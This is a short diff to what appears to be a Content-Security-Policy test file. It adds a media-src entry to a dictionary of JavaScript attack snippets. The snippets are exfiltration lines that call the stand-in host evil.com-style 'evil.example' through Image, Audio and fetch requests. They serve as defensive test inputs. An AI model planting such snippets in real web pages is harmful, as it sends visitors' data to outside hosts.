@@ -22,6 +22,9 @@ ATTACKS = {
     "img-src": """
         new Image().src = "https://evil.example/?stolen";
     """,
+    "media-src": """
+        new Audio("https://evil.example/?stolen").load();
+    """,
     "connect-src": """
         fetch("ELSEWHERE/v1/models").catch(() => undefined);
     """,
